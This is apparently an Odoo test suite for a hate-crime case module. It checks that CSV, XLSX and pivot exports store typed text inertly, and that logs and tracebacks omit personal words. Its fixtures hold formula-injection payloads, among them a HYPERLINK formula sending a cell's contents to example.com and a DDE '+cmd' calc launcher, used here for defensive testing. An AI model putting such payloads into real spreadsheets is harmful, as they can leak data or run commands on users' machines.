import io
import json
import logging
import sys
import zipfile

import psycopg2

from odoo.exceptions import ValidationError
from odoo.http import Request
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from ..policy import neutral_log
from .common import HateCaseCommon, HateCasePeople

PLANTED = "Wyxdorf"


@tagged("post_install", "-at_install", "hate_case", "security")
class TestCells(HateCasePeople, HttpCase):
    """What was typed is text in every sheet, and never run."""

    LIVE = '=HYPERLINK("http://example.com/?"&A1,"look")'

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.set_up_people()
        cls.officer.group_ids += cls.env.ref("base.group_allow_export")
        cls.typed = (cls.LIVE, "@SUM(1)", "\t=1", "+cmd|' /C calc'!A0", "-2+3", "＝1")
        # words about people leave by no export, so these are partners
        cls.agencies = cls.env["hate.agency"].create(
            [{"name": text} for text in cls.typed]
        )

    def export(self, kind, **more):
        self.authenticate("t_officer", "t_officer")
        data = {
            "model": "hate.agency",
            "fields": [{"name": "name", "label": "Name", "type": "char"}],
            "ids": self.agencies.ids,
            "domain": [],
            "import_compat": False,
            **more,
        }
        answer = self.url_open(
            f"/web/export/{kind}",
            data={"data": json.dumps(data), "csrf_token": self.csrf()},
        )
        self.assertEqual(answer.status_code, 200)
        return answer.content

    def csrf(self):
        return Request.csrf_token(self)

    def sheet(self, content):
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            return {name: book.read(name).decode() for name in book.namelist()}

    def assert_no_formula(self, content):
        parts = self.sheet(content)
        self.assertNotIn("<f>", parts["xl/worksheets/sheet1.xml"])
        self.assertNotIn("<hyperlink", parts["xl/worksheets/sheet1.xml"])
        return parts["xl/sharedStrings.xml"]

    def test_a_sheet(self):
        strings = self.assert_no_formula(self.export("xlsx"))
        self.assertIn("=HYPERLINK", strings)
        self.assertIn("@SUM", strings)

    def test_a_sheet_in_groups(self):
        content = self.export(
            "xlsx",
            groupby=["name"],
            ids=False,
            domain=[("id", "in", self.agencies.ids)],
        )
        self.assertIn("HYPERLINK", self.assert_no_formula(content))

    def test_a_text_file(self):
        lines = self.export("csv").decode().splitlines()[1:]
        self.assertEqual(len(lines), len(self.typed))
        for line in lines:
            self.assertTrue(line.startswith("\"'"), line)
            self.assertFalse(line.startswith("\"''"), line)

    def test_a_pivot_table_headed_by_a_name(self):
        """Figures leave by an export, and words about people do not."""
        case = self.open_case(officer=self.officer)
        self.env["hate.party"].create(
            {"case_id": case.id, "role": "victim", "name": "Amina Planted"}
        )
        self.assertIn("affected_name", case._words_to_group_by())
        self.authenticate("t_officer", "t_officer")
        for model in ("hate.case", "res.partner"):
            for title in ("Amina Planted", case.name):
                table = {
                    "title": "Cases",
                    "model": model,
                    "measure_count": 1,
                    "origin_count": 1,
                    "col_group_headers": [[{"title": "", "width": 1, "height": 1}]],
                    "measure_headers": [{"title": "Count", "is_bold": False}],
                    "rows": [{"title": title, "indent": 1, "values": [{"value": 1}]}],
                }
                with self.subTest(model=model, title=title), mute_logger("odoo.http"):
                    answer = self.url_open(
                        "/web/pivot/export_xlsx",
                        data={"data": json.dumps(table), "csrf_token": self.csrf()},
                    )
                if title == case.name:
                    self.assertEqual(answer.status_code, 200)
                    self.assertIn("Count", str(self.sheet(answer.content)))
                else:
                    self.assertNotEqual(answer.status_code, 200)
                    self.assertIn("do not leave by an export", answer.text)

    def test_a_pivot_table(self):
        self.authenticate("t_officer", "t_officer")
        table = {
            "title": "Cases",
            "model": "hate.party",
            "measure_count": 1,
            "origin_count": 1,
            "col_group_headers": [[{"title": self.LIVE, "width": 1, "height": 1}]],
            "measure_headers": [{"title": "@SUM(1)", "is_bold": False}],
            "rows": [
                {"title": text, "indent": 0, "values": [{"value": self.LIVE}]}
                for text in self.typed
            ],
        }
        answer = self.url_open(
            "/web/pivot/export_xlsx",
            data={"data": json.dumps(table), "csrf_token": self.csrf()},
        )
        self.assertEqual(answer.status_code, 200)
        self.assertIn("HYPERLINK", self.assert_no_formula(answer.content))


@tagged("post_install", "-at_install", "hate_case", "security")
class TestServerLog(HateCaseCommon):
    """What people said is not in the server's log, even when something fails."""

    def test_a_failing_statement_shows_no_values(self):
        case = self.open_case()
        with self.assertLogs("odoo.sql_db", logging.ERROR) as kept:
            with self.assertRaises(psycopg2.Error), self.env.cr.savepoint():
                self.env.cr.execute(
                    "INSERT INTO hate_party (case_id, name) VALUES (%s, %s)",
                    (case.id, PLANTED),
                )
        self.assertTrue(kept.output)
        self.assertNotIn(PLANTED, "".join(kept.output))
        self.assertIn("hate cases", "".join(kept.output))

    def test_other_statements_are_told_as_before(self):
        with self.assertLogs("odoo.sql_db", logging.ERROR) as kept:
            with self.assertRaises(psycopg2.Error), self.env.cr.savepoint():
                self.env.cr.execute("SELECT * FROM no_such_table_wyx")
        self.assertIn("no_such_table_wyx", "".join(kept.output))

    def test_the_filters_stand_before_the_loggers(self):
        for name in neutral_log.NAMES:
            filters = logging.getLogger(name).filters
            ours = [f for f in filters if isinstance(f, neutral_log.NeutralFilter)]
            self.assertEqual(len(ours), 1, name)

    def test_a_refusal_is_told_without_its_words(self):
        filtered = neutral_log.NeutralFilter(lambda: "/call_kw/hate.party/x")
        record = logging.makeLogRecord(
            {"name": "odoo.http", "msg": ValidationError(PLANTED), "levelno": 30}
        )
        filtered.filter(record)
        self.assertNotIn(PLANTED, record.getMessage())
        self.assertIn("ValidationError", record.getMessage())
        self.assertIn("/hate.party/", record.getMessage())
        elsewhere = neutral_log.NeutralFilter(lambda: "/call_kw/res.users/x")
        record = logging.makeLogRecord(
            {"name": "odoo.http", "msg": ValidationError("As before"), "levelno": 30}
        )
        elsewhere.filter(record)
        self.assertEqual(record.getMessage(), "As before")

    def test_a_traceback_shows_its_steps_and_not_its_words(self):
        filtered = neutral_log.NeutralFilter(lambda: "/xmlrpc/2/object")
        try:
            int(PLANTED)
        except ValueError:
            found = sys.exc_info()
        record = logging.makeLogRecord(
            {"name": "odoo.http", "msg": "Failed", "exc_info": found, "levelno": 40}
        )
        filtered.filter(record)
        shown = logging.Formatter().format(record)
        self.assertNotIn(PLANTED, shown)
        self.assertIn("ValueError", shown)
        self.assertIn("test_exports.py", shown)
